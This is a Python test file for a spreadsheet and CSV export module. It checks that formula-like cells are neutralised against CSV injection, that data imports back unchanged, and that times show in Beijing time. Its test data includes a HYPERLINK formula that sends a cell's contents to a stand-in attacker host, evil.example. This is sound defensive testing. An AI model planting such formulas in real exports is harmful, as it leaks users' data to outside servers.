"""Exports are safe to open: no cell runs as a formula (OWASP CSV injection), and a CSV imports back unchanged."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest

from api.tabular import Sheet, neutralize, read_table, write_csv, write_workbook

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A2,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_triggers_get_an_apostrophe(text: str) -> None:
    assert neutralize(text) == "'" + text


@pytest.mark.parametrize("value", ["检查事项", "a=b", "100", 12, -3.5, None, True])
def test_other_values_are_left_alone(value: object) -> None:
    assert neutralize(value) == value


def test_csv_cells_are_neutralized_and_import_back_unchanged() -> None:
    content = write_csv(["事项编码", "检查事项名称"], [[f"C-{i}", text] for i, text in enumerate(HOSTILE)])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert all(row[1].startswith("'") for row in rows[1:])
    table = read_table("items.csv", "text/csv", content)
    assert [cells["检查事项名称"] for _, cells in table.rows] == [text.strip() for text in HOSTILE]  # cells are trimmed


def test_workbook_text_is_never_a_formula_and_times_are_beijing_time() -> None:
    at = dt.datetime(2026, 12, 31, 15, 50, tzinfo=dt.UTC)
    content = write_workbook([Sheet(title="测试/表[1]", headers=["名称", "时间"], rows=[[HOSTILE[0], at]])])
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    sheet = workbook.worksheets[0]
    assert sheet.title == "测试 表 1 " and sheet.freeze_panes == "A2"
    cell = sheet["A2"]
    assert cell.data_type == "s" and cell.value == HOSTILE[0]
    assert sheet["B2"].value == dt.datetime(2026, 12, 31, 23, 50)
